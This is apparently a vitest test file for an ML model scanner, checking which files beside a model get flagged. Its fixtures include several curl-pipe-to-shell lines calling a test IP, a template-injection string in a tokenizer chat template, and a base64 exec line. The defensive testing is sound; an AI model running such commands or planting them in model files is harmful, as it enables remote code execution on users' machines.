import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { basename, join } from 'node:path';
import { afterAll, expect, it } from 'vitest';
import { DEFAULT_SETTINGS } from '../../src/config/settings.js';
import { scanPaths } from '../../src/scan/scan.js';

const folder = mkdtempSync(join(tmpdir(), 'dynscan-sidecars-'));
process.env['DYNSCAN_CACHE'] = join(folder, 'cache');
afterAll(() => {
  rmSync(folder, { recursive: true });
});

function fill(name: string, files: Readonly<Record<string, string>>): string {
  const path = join(folder, name);
  mkdirSync(path);
  for (const [file, content] of Object.entries(files)) writeFileSync(join(path, file), content, 'latin1');
  return path;
}

/** What a static scan of the folder reports on, with the rules it found. */
async function reported(path: string): Promise<Record<string, string[]>> {
  const { scans } = await scanPaths(
    { paths: [path], settings: DEFAULT_SETTINGS, staticOnly: true },
    { signal: new AbortController().signal, onEvent: () => undefined },
  );
  return Object.fromEntries(
    scans.map(({ model, findings }) => [basename(model.path), findings.map(({ rule }) => rule)]),
  );
}

const MODEL = '\x80\x02]q\x00(K\x01K\x02e.';
const CONFIG = '{"model_type": "bert", "hidden_size": 768, "architectures": ["BertModel"]}';

it('what lies beside a model is reported when there is something to say of it', async () => {
  const path = fill('hostile', {
    'weights.pkl': MODEL,
    'config.json': CONFIG,
    'tokenizer_config.json': `{"chat_template": "{{ ''.__class__.__mro__[1].__subclasses__() }}"}`,
    'modeling_x.py': "import os\nos.system('curl http://203.0.113.7/x | sh')\n",
    'README.md': '# A model',
  });
  const found = await reported(path);
  expect(Object.keys(found).sort()).toEqual(['modeling_x.py', 'tokenizer_config.json', 'weights.pkl']);
  expect(found['weights.pkl']).toEqual([]);
  expect(found['modeling_x.py']?.length).toBeGreaterThan(0);
  expect(found['tokenizer_config.json']?.length).toBeGreaterThan(0);
});

/** Findings over info, by file, and the verdict of each. */
async function accused(path: string): Promise<Record<string, string>> {
  const { scans } = await scanPaths(
    { paths: [path], settings: DEFAULT_SETTINGS, staticOnly: true },
    { signal: new AbortController().signal, onEvent: () => undefined },
  );
  return Object.fromEntries(
    scans.flatMap(({ model, verdict }) => (verdict === 'clean' ? [] : [[basename(model.path), verdict] as const])),
  );
}

const EVIL = "import os\nos.system('curl http://203.0.113.7/x | sh')\n";
const HARMLESS_BESIDE = {
  'train.py': "import subprocess, torch\nsubprocess.run(['nvidia-smi'])\nmodel = torch.load('weights.pkl')\n",
  'run.sh': '#!/bin/sh\ncurl -LsSf https://example.org/install.sh | sh\n',
  'explore.ipynb': '{"cells": [{"cell_type": "code", "source": "os.system(\\"ls\\")"}], "nbformat": 4}',
  'requirements.txt': '--extra-index-url https://packages.example.net/simple\nx @ git+https://github.com/a/b\n',
  'environment.yml':
    'dependencies:\n  - pip:\n    - -i https://packages.example.net/simple\n    - git+https://github.com/a/b\n',
};

it('what nothing loads is no accusation of the model that it lies beside', async () => {
  expect(await accused(fill('beside', { 'weights.pkl': MODEL, ...HARMLESS_BESIDE }))).toEqual({});
});

it('and neither is it in the folder of a Hugging Face model', async () => {
  const vocabulary = { 'config.json': CONFIG, 'vocab.txt': '[PAD]\n<script>\n' };
  expect(await accused(fill('face', { ...vocabulary, ...HARMLESS_BESIDE }))).toEqual({});
});

it.each([
  ['modeling_x.py', EVIL, {}],
  ['hubconf.py', EVIL, {}],
  ['handler.py', EVIL, {}],
  ['numpy.py', EVIL, {}],
  ['requirements.txt', HARMLESS_BESIDE['requirements.txt'], { MLmodel: 'flavors: {}' }],
  ['requirements.txt', HARMLESS_BESIDE['requirements.txt'], { 'handler.py': 'y = 1\n' }],
  ['environment.yml', HARMLESS_BESIDE['environment.yml'], { MLmodel: 'flavors: {}' }],
  ['train.py', "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n", {}],
])('%s is one where something loads it, or no library writes such a thing', async (name, content, more) => {
  const path = fill(`loaded-${String(Object.keys(more))}-${name}`, { 'weights.pkl': MODEL, [name]: content, ...more });
  expect(Object.keys(await accused(path))).toEqual([name]);
});

it.each([
  ['helper_layers.py', {}],
  ['helper_layers/__init__.py', {}],
  ['inner.py', { 'helper_layers.py': 'import inner\nclass Layer: pass\n' }],
])('the module of a class that a pickle asks for is read where it lies beside it: %s', async (name, more) => {
  const path = fill(`own-${name.replace('/', '-')}`, { 'weights.pkl': 'chelper_layers\nLayer\n)\x81.' });
  if (name.includes('/')) mkdirSync(join(path, 'helper_layers'));
  for (const [file, content] of Object.entries({ ...more, [name]: EVIL })) writeFileSync(join(path, file), content);
  expect(await accused(join(path, 'weights.pkl'))).toEqual({ 'weights.pkl': 'malicious' });
});

it('the configuration of a project without a model is none of our business', async () => {
  const path = fill('project', { 'weights.pkl': MODEL });
  mkdirSync(join(path, 'tools'));
  writeFileSync(join(path, 'tools', 'run.py'), "import os\nos.system('curl http://203.0.113.7/x | sh')\n");
  expect(Object.keys(await reported(path))).toEqual(['weights.pkl']);
});

it('a configuration that is asked for by name is judged by what it says', async () => {
  const path = fill('alone', { 'config.json': CONFIG });
  const { scans } = await scanPaths(
    { paths: [join(path, 'config.json')], settings: DEFAULT_SETTINGS, staticOnly: false },
    { signal: new AbortController().signal, onEvent: () => undefined },
  );
  expect(scans[0]).toMatchObject({ verdict: 'clean', findings: [] });
});

it('the Python files that a configuration has a loader import are read with it, and so are those that they import', async () => {
  const config = '{"auto_map": {"AutoModel": "modeling_x.XModel", "AutoConfig": "configuration_x.XConfig"}}';
  const path = fill('remote', {
    'config.json': config,
    'modeling_x.py': 'from .ops import run\n\nclass XModel: pass\n',
    'ops.py': "import os\nos.system('curl http://203.0.113.7/x | sh')\n",
  });
  const { scans } = await scanPaths(
    { paths: [join(path, 'config.json')], settings: DEFAULT_SETTINGS, staticOnly: true },
    { signal: new AbortController().signal, onEvent: () => undefined },
  );
  const findings = scans.flatMap((scan) => scan.findings);
  const words = findings.filter(({ rule }) => rule === 'STATIC-MANIFEST-REMOTE-CODE').map((f) => f.explanation);
  expect(words.join()).toContain('names modeling_x.XModel, in modeling_x.py, which lies beside it and was read');
  expect(words.join()).toContain('in configuration_x.py, which does not lie beside it');
  expect(
    findings.filter(({ severity }) => severity === 'critical' || severity === 'high').map((f) => f.evidence[0]?.member),
  ).toContain('ops.py');
});
